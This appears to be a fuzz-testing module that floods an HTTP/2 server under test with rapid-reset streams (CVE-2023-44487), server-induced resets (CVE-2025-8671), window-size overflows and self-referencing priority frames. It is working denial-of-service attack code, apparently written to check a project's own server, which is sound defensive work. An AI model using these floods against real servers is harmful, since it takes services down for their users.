"""Streams that are opened to be thrown away, by us (rapid reset) or by the server on our behalf."""

from __future__ import annotations

import struct
from collections.abc import Iterator

from tests.fuzz.attacks import wire
from tests.fuzz.attacks.target import LIST, SEND, SUBSCRIBE, Target
from tests.fuzz.attacks.wire import Connection

_AT_ONCE = 50
_PER_CONNECTION = 100_000


def rapid_reset(target: Target) -> Iterator[int]:
    """CVE-2023-44487, by somebody without credentials."""
    yield from _flood(target, wire.block(wire.request_headers(SEND)), b"", wire.reset)


def rapid_reset_of_calls(target: Target) -> Iterator[int]:
    """The same by a user whose calls are whole, so that each begins to work before it is reset."""
    block = wire.block(wire.request_headers(LIST, target.token))
    yield from _flood(target, block, wire.message(b""), wire.reset)


def rapid_reset_of_subscriptions(target: Target) -> Iterator[int]:
    """The same with live streams, which begin with a snapshot."""
    block = wire.block(wire.request_headers(SUBSCRIBE, target.token))
    yield from _flood(target, block, wire.message(b""), wire.reset)


def made_to_reset(target: Target) -> Iterator[int]:
    """CVE-2025-8671: an error on each stream makes the server reset it, which counts as no reset of ours."""
    block = wire.block(wire.request_headers(LIST, target.token))
    yield from _flood(target, block, wire.message(b""), lambda stream: wire.window_update(stream, 0))


def window_overflow(target: Target) -> Iterator[int]:
    """Windows past 2^31 - 1, of streams."""
    block = wire.block(wire.request_headers(LIST, target.token))
    yield from _flood(target, block, b"", lambda stream: wire.window_update(stream, wire.LARGEST_WINDOW) * 2)


def depends_on_itself(target: Target) -> Iterator[int]:
    """A priority tree that is none."""
    block = wire.block(wire.request_headers(LIST, target.token))

    def twist(stream: int) -> bytes:
        return wire.frame(wire.PRIORITY, 0, stream, struct.pack(">IB", stream, 255)) + wire.reset(stream)

    yield from _flood(target, block, b"", twist)


def _flood(target: Target, block: bytes, body: bytes, end: object) -> Iterator[int]:
    assert callable(end)
    while True:
        connection = Connection(target.port)
        for first in range(1, 2 * _PER_CONNECTION, 2 * _AT_ONCE):
            parts = []
            for stream in range(first, first + 2 * _AT_ONCE, 2):
                whole = [wire.data(stream, body, end=True)] if body else []
                parts += [wire.headers(stream, block), *whole, end(stream)]
            alive = connection.send(*parts) and connection.drop_answers()
            yield _AT_ONCE
            if not alive:
                break
        connection.close()
